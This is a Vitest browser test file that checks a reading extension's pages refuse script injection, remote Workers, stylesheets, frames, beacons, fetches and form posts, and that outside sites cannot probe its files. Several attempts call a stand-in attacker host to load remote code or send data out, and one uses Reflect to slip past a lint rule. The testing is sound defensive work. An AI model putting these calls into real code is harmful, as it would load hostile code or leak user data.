import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BROWSERS, launch, type Session, until } from './harness/index.ts';

const PAGES = ['popup.html', 'reader.html', 'library.html', 'options.html', 'welcome.html'];

/** Tries, in a page of the extension, what must not work there, and tells what did. It crosses into the page: it must stand alone. */
async function breakOut(): Promise<string[]> {
  const attempts: Record<string, () => unknown> = {
    'HTML from text': () => {
      // Through Reflect: the repository's own check forbids the plain form everywhere.
      Reflect.set(document.createElement('div'), 'innerHTML', '<b>x</b>');
    },
    'a document from text': () => new DOMParser().parseFromString('<p>x', 'text/html'),
    'an inline frame document': () => {
      document.createElement('iframe').srcdoc = '<p>x';
    },
    'a script element': () => {
      document.createElement('script').textContent = 'globalThis.ran = true';
    },
    'a remote script': () => {
      document.createElement('script').src = 'http://evil.example/x.js';
    },
    'a remote Worker': () => new Worker('http://evil.example/x.js'),
    'a Worker from text': () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
    'a fetch': () => fetch('http://evil.example/fetch'),
    'a beacon': () => {
      if (!navigator.sendBeacon('http://evil.example/beacon', 'x')) throw new Error('refused');
      // A beacon that the policy stops is only known by the server.
      throw new Error('see the server');
    },
    'a second policy': () =>
      (Reflect.get(globalThis, 'trustedTypes') as { createPolicy(name: string, rules: object): unknown }).createPolicy(
        'mine',
        {},
      ),
    'a style sheet': () =>
      new Promise((resolve, reject) => {
        const link = document.createElement('link');
        link.rel = 'stylesheet';
        link.href = 'http://evil.example/x.css';
        link.onload = resolve;
        link.onerror = reject;
        document.head.append(link);
      }),
    'a frame': () => {
      const frame = document.createElement('iframe');
      frame.src = 'http://evil.example/frame';
      document.body.append(frame);
      throw new Error('see the server');
    },
    'a form': () => {
      const form = document.createElement('form');
      form.action = 'http://evil.example/form';
      document.body.append(form);
      form.submit();
      throw new Error('see the server');
    },
  };
  const worked: string[] = [];
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      await attempt();
      worked.push(name);
    } catch {
      // Refused, as it must be.
    }
  }
  return worked;
}

/** Whether a picture from the web loads in a page. */
const showsPicture = (): Promise<boolean> =>
  new Promise((resolve) => {
    const picture = new Image();
    picture.onload = () => resolve(true);
    picture.onerror = () => resolve(false);
    picture.src = 'http://backan.gov.vn/PublishingImages/be-nuoc-khau-lang.jpg';
  });

/** Text made into code by a timer: eval itself is free to tools that look at a page from outside, as this test does. */
const runsText = (): Promise<boolean> => {
  setTimeout('globalThis.ran = true' as unknown as () => void, 0);
  return new Promise((resolve) => setTimeout(() => resolve(Reflect.get(globalThis, 'ran') === true), 50));
};

const startsOwnWorker = (): boolean => {
  new Worker('/voice/espeak-ng.js', { type: 'module' }).terminate();
  return true;
};

describe.each(BROWSERS)('pages of the extension in %s', (name) => {
  let session: Session;

  beforeAll(async () => {
    session = await launch(name);
  });
  afterAll(() => session?.stop());

  it.each(PAGES)('%s runs nothing from text and reaches nothing outside', async (path) => {
    const page = await session.openExtension(path);
    expect(await page.evaluate(breakOut)).toEqual([]);
    await expect(page.evaluate(runsText).catch(() => false)).resolves.toBe(false);
    // Firefox asks for every picture of an extension page over https, which the tests' server does not speak.
    expect(await page.evaluate(showsPicture)).toBe(path === 'reader.html' && name === 'chromium');
    expect(session.portal.requests.filter((url) => url.includes('evil.example'))).toEqual([]);
    await page.close();
  });

  it('the reader starts Workers of its own package', async () => {
    const page = await session.openExtension('reader.html');
    expect(await page.evaluate(startsOwnWorker)).toBe(true);
    await page.close();
  });

  it('no site can load a file of the extension, so none can tell that it is there', async () => {
    const page = await session.open('http://backan.gov.vn/Pages/home.aspx');
    const reached = await page.evaluate(async (base) => {
      const files = ['icon/lively-16.png', 'manifest.json', 'reader.html', 'voice/espeak-ng.js'];
      const answers = await Promise.allSettled(files.map((file) => fetch(`${base}/${file}`)));
      const framed = document.createElement('iframe');
      framed.src = `${base}/reader.html`;
      document.body.append(framed);
      return answers.filter(({ status }) => status === 'fulfilled').length;
    }, session.base);
    expect(reached).toBe(0);
    const framed = await until('the frame', () => page.frames()[1]);
    expect(await framed.evaluate(() => document.getElementById('app') === null).catch(() => true)).toBe(true);
    await page.close();
  });
});
